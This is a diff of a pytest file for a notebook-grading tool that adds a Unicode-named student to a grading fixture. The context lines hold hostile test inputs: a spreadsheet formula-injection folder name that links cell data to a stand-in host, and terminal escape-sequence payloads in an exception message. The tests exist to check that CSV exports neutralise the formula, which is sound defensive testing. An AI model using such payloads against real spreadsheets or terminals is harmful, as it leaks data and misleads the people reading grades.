@@ -58,6 +58,7 @@ def test_names_and_numbers_are_written_as_they_are(cell):
 # A Moodle download of the tiny lab: one student named like a formula, whose `add` raises an exception whose
 # message carries a terminal's escape sequences; one honest student. Graded by grade_class, then the summary the
 # command prints and every CSV the run writes are read back.
+UNICODE_NAME = "josé lópez 李"  # a folder of its own (not Moodle's): the student's id is the name as it is
 EVIL_NAME = '=HYPERLINK("x.example?"&A1,"all twenty")'  # a folder name: no slash
 EVIL_MESSAGE = ATTACKS["title"] + ATTACKS["clear"] + "all students 20/20" + ATTACKS["clipboard"]
 RAISES = f"def add(a, b):\n    raise ValueError({EVIL_MESSAGE!r})\n\n\ndef scale(v, c):\n    return np.asarray(v) * c\n"
@@ -80,7 +81,8 @@ def graded_class(tmp_path_factory):
     layout = build_template(cfg)
     release = nbformat.read(cfg.out / "template" / "labs" / F.LAB / f"{F.LAB}.ipynb", as_version=4)
     for folder, solution in ((f"{EVIL_NAME}_101_assignsubmission_file_", RAISES),
-                             ("Ada Lovelace_102_assignsubmission_file_", F.SOLUTION)):
+                             ("Ada Lovelace_102_assignsubmission_file_", F.SOLUTION),
+                             (UNICODE_NAME, F.SOLUTION)):
         (cfg.submissions / folder).mkdir(parents=True)
         nbformat.write(F.student(release, solution), cfg.submissions / folder / f"{F.LAB}.ipynb")
     results = grade_class(cfg, progress=False)
@@ -114,4 +116,14 @@ def test_every_csv_the_run_writes_keeps_a_formula_as_text(graded_class):
                         seen.append(name)
                         assert cell.startswith("'="), (name, cell)
     assert {"lms.csv", "grades_moodle.csv"} <= set(seen)  # the name is there, as text
-    assert sorted(r["score"] for r in results) == [3.0, 5.0]  # the formula's student graded too: scale is right
+    assert sorted(r["score"] for r in results) == [3.0, 5.0, 5.0]  # the formula's student graded too: scale is right
+
+
+@pytest.mark.slow
+def test_a_unicode_name_is_graded_like_any_other(graded_class):
+    cfg, _, results = graded_class
+    r = next(r for r in results if r["student"] == UNICODE_NAME)
+    assert r["score"] == 5.0 and not r["problems"], r
+    assert (cfg.out / "feedback" / UNICODE_NAME / "tiny" / "tiny.html").is_file()
+    with open(cfg.out / "grades.csv", newline="") as f:
+        assert UNICODE_NAME in [row["student"] for row in csv.DictReader(f)]
